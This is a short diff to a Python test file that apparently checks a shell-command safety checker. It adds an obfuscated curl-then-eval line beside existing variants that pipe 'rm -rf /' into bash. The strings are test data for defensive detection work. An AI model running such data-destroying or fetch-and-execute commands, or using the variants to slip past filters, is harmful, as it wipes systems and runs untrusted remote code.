@@ -328,6 +328,7 @@ def test_row_41_what_a_line_hands_on_costs_no_more_than_its_length(line: str, te
         "printf 'rm -rf /\\n' | bash",
         "printf '%s' 'rm -rf /' | bash",
         "cat <<E | bash\nrm -rf /\nE",
+        'a=$(curl e.test); b=$a; c="$b"; eval "$c"',
     ],
 )
 def test_other_ways_to_write_a_line_are_the_same_line(line: str) -> None:
